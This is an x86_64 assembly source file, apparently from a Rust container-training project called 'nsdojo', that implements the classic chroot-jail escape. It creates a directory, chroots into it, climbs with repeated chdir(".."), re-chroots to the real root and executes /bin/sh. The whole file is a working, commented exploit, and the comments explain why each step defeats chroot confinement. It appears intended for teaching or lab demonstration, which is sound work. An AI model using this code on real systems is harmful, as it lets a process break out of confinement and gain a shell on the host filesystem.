# escape_chroot for x86_64 Linux: the deck's chroot escape, as machine code.
# AT&T syntax (GNU as / LLVM). Assembled by scripts/escape-elf.sh into the
# bytes in src/rootfs/escape_code.rs; nsdojo wraps them in an ELF header.
# Position independent (every address is %rip-relative): the ELF writer may
# load it anywhere. No libc, no stack frame: the kernel's initial stack is
#   (%rsp) argc, 8(%rsp) argv[0..argc], NULL, envp[..], NULL
# Syscalls clobber only %rax, %rcx and %r11, so %rbx and %r12 survive them.

        .text
        .globl  _start
_start:
        # envp = rsp + 8 * (argc + 2): past argc, the argv pointers and their NULL.
        movq    (%rsp), %rbx
        leaq    16(%rsp,%rbx,8), %r12

        # mkdir(".out", 0755). Its result does not matter: after a first run
        # it already exists (EEXIST), and chroot below says if it is unusable.
        movl    $83, %eax
        leaq    out(%rip), %rdi
        movl    $0755, %esi
        syscall

        # chroot(".out"): the root moves below us, the working directory does not.
        movl    $161, %eax
        leaq    out(%rip), %rdi
        syscall
        testq   %rax, %rax
        jnz     fail_out

        # chdir("..") 64 times. The cwd is now outside the root, so no ".."
        # is clamped at it; at the real / ".." is / itself.
        movl    $64, %ebx
1:      movl    $80, %eax
        leaq    dotdot(%rip), %rdi
        syscall
        decl    %ebx
        jnz     1b

        # chroot("."): the real / becomes the root again.
        movl    $161, %eax
        leaq    dot(%rip), %rdi
        syscall
        testq   %rax, %rax
        jnz     fail_dot

        # chdir("/"), so the shell starts where its root is.
        movl    $80, %eax
        leaq    slash(%rip), %rdi
        syscall

        # execve("/bin/sh", ["/bin/sh", NULL], envp). argv[0] is the program's
        # name: the deck's execl("/bin/sh", "-i", NULL) makes "-i" argv[0]
        # (a login-shell name to some shells) and passes no option at all.
        leaq    sh(%rip), %rdi
        pushq   $0
        pushq   %rdi
        movq    %rsp, %rsi
        movq    %r12, %rdx
        movl    $59, %eax
        syscall

        # execve returned: there is no /bin/sh on the host side.
        leaq    msg_exec(%rip), %rsi
        movl    $msg_exec_len, %edx
        movl    $127, %ebx
        jmp     die

fail_out:
        leaq    msg_out(%rip), %rsi
        movl    $msg_out_len, %edx
        movl    $1, %ebx
        jmp     die

fail_dot:
        leaq    msg_dot(%rip), %rsi
        movl    $msg_dot_len, %edx
        movl    $1, %ebx

        # write(2, %rsi, %rdx), then exit(%ebx).
die:    movl    $2, %edi
        movl    $1, %eax
        syscall
        movl    %ebx, %edi
        movl    $60, %eax
        syscall

out:    .asciz  ".out"
dotdot: .asciz  ".."
dot:    .asciz  "."
slash:  .asciz  "/"
sh:     .asciz  "/bin/sh"
msg_out:
        .ascii  "escape_chroot: chroot(.out) failed (root? CAP_SYS_CHROOT?)\n"
        .set    msg_out_len, . - msg_out
msg_dot:
        .ascii  "escape_chroot: chroot(.) failed (root? CAP_SYS_CHROOT?)\n"
        .set    msg_dot_len, . - msg_dot
msg_exec:
        .ascii  "escape_chroot: cannot run /bin/sh\n"
        .set    msg_exec_len, . - msg_exec
